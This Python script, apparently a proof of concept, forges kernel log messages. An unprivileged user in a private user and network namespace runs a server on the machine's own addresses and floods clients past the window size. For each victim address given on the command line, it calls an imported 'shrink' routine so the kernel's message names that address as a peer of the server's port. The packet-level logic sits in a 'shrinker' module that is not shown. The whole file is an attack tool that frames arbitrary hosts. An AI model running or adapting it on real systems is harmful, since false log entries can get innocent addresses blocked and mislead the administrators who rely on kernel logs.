"""A local user without privileges, who lets the kernel's message accuse others.

In a user and network namespace of his own both the server and the peers are his: whom the message
names, and at which ports, is up to him. He says when he has done it, and ends when his input does.
Usage: forger.py PORT ADDRESS...
"""

import socket
import subprocess
import sys
import threading

from shrinker import shrink, tunnel

SERVERS = ("10.9.0.1", "fd00:9::ffff")
"""The machine's own addresses, which he may have as well."""
PIECE = b"x" * 100_000


def serve(listener: socket.socket) -> None:
    """Send each who connects more than a window holds."""
    while True:
        connection, _ = listener.accept()
        threading.Thread(target=connection.sendall, args=(PIECE,), daemon=True).start()


def main() -> None:
    """Accuse each address, as a peer of the server's port."""
    port, victims = int(sys.argv[1]), sys.argv[2:]
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    with tunnel(f"{SERVERS[0]}/16", f"{SERVERS[1]}/64") as device:
        family = socket.AF_INET6
        listener = socket.create_server(("::", port), family=family, dualstack_ipv6=True)
        threading.Thread(target=serve, args=(listener,), daemon=True).start()
        for victim in victims:
            shrink(device, victim, (SERVERS[":" in victim], port), seconds=1)
        print(f"accused {' '.join(victims)}", flush=True)
        sys.stdin.read()


if __name__ == "__main__":
    main()
